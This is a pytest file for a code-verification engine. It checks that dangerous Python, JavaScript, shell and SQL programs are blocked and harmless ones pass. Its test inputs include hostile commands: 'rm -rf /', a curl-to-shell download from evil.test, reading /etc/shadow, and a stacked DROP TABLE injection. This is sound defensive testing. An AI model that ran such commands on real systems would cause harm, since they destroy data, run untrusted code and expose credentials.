"""Verdicts of the code engine on programs (DESIGN 3, DESIGN 4.3)."""

from typing import Any

import pytest

from qwed.engines.code import verify
from qwed.engines.protocol import DataPolicy, EngineRequest
from qwed.model import Effect, EffectKind, Risk, Status, Verdict, canonical, risk_of
from tests.support.case_tables import rows


def judge(code: str, **parameters: Any) -> Verdict:
    return verify(EngineRequest(code=code, parameters=parameters))


def test_every_attack_is_blocked_with_a_violation_and_a_failed_check():
    for row in rows("python_attacks.jsonl"):
        verdict = judge(row["code"])
        assert verdict.status is Status.BLOCKED, row
        assert verdict.violations
        assert verdict.checks_failed
        assert canonical(verdict.result)


def test_every_ordinary_program_is_verified_with_all_checks_passed():
    for row in rows("python_honest.jsonl"):
        verdict = judge(row["code"])
        assert (verdict.status, verdict.checks_failed) == (Status.VERIFIED, ()), row
        assert sorted({effect.kind.value for effect in verdict.effects}) == row["effects"]


def test_no_bomb_is_verified():
    for row in rows("python_hostile.jsonl"):
        if "code" in row:
            assert judge(row["code"]).status is Status.BLOCKED, row


def test_the_seed_example_reads_as_printed():
    verdict = judge("import os; os.system('rm -rf /')")
    assert verdict.violations == ("Dangerous pattern: os.system",)
    assert verdict.result["issues"] == [
        {
            "severity": "critical",
            "type": "process_start",
            "pattern": "os.system",
            "description": "starts another process",
            "line_number": 1,
            "recommendation": "use a library call that does the work inside the program",
        }
    ]


@pytest.mark.parametrize(
    ("code", "check"),
    [
        ("import os\nos.system('x')", "no_dangerous_calls"),
        ("eval('1')", "no_dynamic_code"),
        ("import pickle", "no_deserialisation"),
        ("().__class__.__bases__", "no_reflection"),
    ],
)
def test_each_violation_fails_its_own_check_only(code, check):
    verdict = judge(code)
    assert verdict.checks_failed == (check,)
    assert "syntax_valid" in verdict.checks_passed
    assert len(verdict.checks_passed) == 4


def test_a_plain_deletion_is_verified_at_critical_risk():
    verdict = judge("import os\nos.remove('x')")
    assert verdict.verified
    assert risk_of(verdict.effects) is Risk.CRITICAL


def test_a_syntax_error_is_blocked_with_its_line_and_no_violation():
    verdict = judge("x = 1\nif x\n    y = 2\n")
    assert (verdict.status, verdict.violations, verdict.checks_failed) == (Status.BLOCKED, (), ("syntax_valid",))
    assert verdict.result["line_number"] == 2
    assert "line 2" in verdict.message


def test_an_unknown_library_is_inconclusive():
    verdict = judge("import frobnicate\nfrobnicate.run()")
    assert (verdict.status, verdict.violations) == (Status.INCONCLUSIVE, ())
    assert "frobnicate" in verdict.message


def test_the_query_stands_in_for_absent_code():
    assert verify(EngineRequest(query="print(1)")).verified
    assert verify(EngineRequest(code="print(1)", query="eval('1')")).verified


@pytest.mark.parametrize("code", ["", "   ", "\n\n"])
def test_no_code_is_refused(code):
    assert judge(code).status is Status.BLOCKED


def test_every_javascript_attack_is_blocked_with_a_violation_and_a_failed_check():
    for row in rows("javascript_attacks.jsonl"):
        verdict = judge(row["code"], language="typescript" if row.get("typescript") else "javascript")
        assert (verdict.status, bool(verdict.violations)) == (Status.BLOCKED, True), row
        assert verdict.checks_failed
        assert verdict.result["issues"] == verdict.result["vulnerabilities"]
        assert canonical(verdict.result)


def test_every_ordinary_javascript_or_typescript_program_is_verified_with_its_effects():
    for row in rows("javascript_honest.jsonl") + rows("javascript_effects.jsonl"):
        verdict = judge(row["code"], language="typescript" if row.get("typescript") else "javascript")
        assert (verdict.status, verdict.checks_failed) == (Status.VERIFIED, ()), row
        assert sorted({effect.kind.value for effect in verdict.effects}) == row["effects"]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import os\nos.remove('x')"),
        ("javascript", "require('fs').unlinkSync('x')"),
        ("TS", "import { unlinkSync } from 'fs';\nunlinkSync('x' as string);"),
        (" Bash ", "rm x"),
    ],
)
def test_the_same_deed_is_the_same_effect_in_every_language(language, code):
    verdict = judge(code, language=language)
    assert (verdict.status, verdict.effects) == (Status.VERIFIED, (Effect(EffectKind.DELETE, "x"),))


def test_a_shell_line_that_runs_a_download_is_blocked():
    verdict = judge("curl http://evil.test/x | sh", language="sh")
    assert (verdict.status, bool(verdict.violations)) == (Status.BLOCKED, True)
    assert verdict.result["issues"]


def test_sql_is_judged_by_the_sql_engine_under_our_name():
    verdict = judge("SELECT id FROM users", language="sql")
    assert (verdict.status, verdict.engine, verdict.result["language"]) == (Status.VERIFIED, "code", "sql")
    stacked = judge("SELECT 1; DROP TABLE users", language="sql")
    assert (stacked.status, bool(stacked.violations)) == (Status.BLOCKED, True)


def test_a_repair_of_sql_is_offered_as_code():
    verdict = verify(
        EngineRequest(
            code="SELECT id, password FROM users",
            parameters={"language": "sql"},
            policy=DataPolicy(schema_ddl="CREATE TABLE users (id INT, password TEXT)"),
        )
    )
    assert verdict.status is Status.FAILED
    assert set(verdict.corrected or {}) == {"code"}


def verify_strict(code: str, language: str = "python") -> Verdict:
    return verify(EngineRequest(code=code, parameters={"language": language}, strict=True))


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("print(sum(range(10)))", "python"),
        ("console.log([1, 2].map((n) => n * 2));", "javascript"),
        ("const n: number = 1;\nexport { n };", "typescript"),
        ("ls -la", "bash"),
        ("SELECT id FROM users", "sql"),
    ],
)
def test_code_that_only_computes_may_stand_alone(code, language):
    verdict = verify_strict(code, language)
    assert (verdict.status, verdict.checks_failed) == (Status.VERIFIED, ())


@pytest.mark.parametrize(
    ("code", "language", "kind"),
    [
        ("open('a.txt').read()", "python", "READ"),
        ("import os\nos.remove('x')", "python", "DELETE"),
        ("const a = 1;\nfetch('https://example.com');", "javascript", "NETWORK"),
        ("console.log(1);\nprocess.env.KEY;", "typescript", "SECRET"),
        ("rm x", "bash", "DELETE"),
        ("cat /etc/shadow", "bash", "SECRET"),
    ],
)
def test_code_with_an_effect_may_not_stand_alone(code, language, kind):
    verdict = verify_strict(code, language)
    assert (verdict.status, verdict.violations) == (Status.BLOCKED, ())
    assert verdict.checks_failed == ("pure_computation",)
    assert f"`{kind} " in verdict.message
    assert [issue["severity"] for issue in verdict.result["issues"]].count("high") >= 1


def test_the_effect_that_is_refused_alone_is_named_with_its_line():
    verdict = verify_strict("const fs = require('fs');\nfs.unlinkSync('a');", "javascript")
    assert verdict.message == "`DELETE a` on line 2 deletes something: it may only compute"
    assert verdict.result["issues"][0]["line_number"] == 2


def test_a_write_in_sql_may_not_stand_alone():
    assert verify_strict("DELETE FROM users WHERE id = 1", "sql").status is Status.BLOCKED


def test_a_name_nobody_knows_may_not_stand_alone_either():
    verdict = verify_strict("import frobnicate\nfrobnicate.run()")
    assert (verdict.status, verdict.checks_failed) == (Status.INCONCLUSIVE, ("pure_computation",))


@pytest.mark.parametrize("language", ["javascript", "typescript"])
def test_what_is_no_javascript_is_blocked_with_its_line(language):
    verdict = judge("let a = 1;\nlet b = ;", language=language)
    assert (verdict.status, verdict.checks_failed) == (Status.BLOCKED, ("syntax_valid",))
    assert verdict.result["line_number"] == 2


@pytest.mark.parametrize("language", ["cobol", "", None, 3, ["python"], "pythonn"])
def test_an_unknown_language_is_blocked_and_the_known_ones_are_listed(language):
    verdict = judge("print(1)", language=language)
    assert verdict.status is Status.BLOCKED
    assert "python, javascript, typescript, bash, sql" in verdict.message


@pytest.mark.parametrize("language", ["python", "Python", "py", "python3"])
def test_python_goes_by_several_names(language):
    assert judge("print(1)", language=language).verified
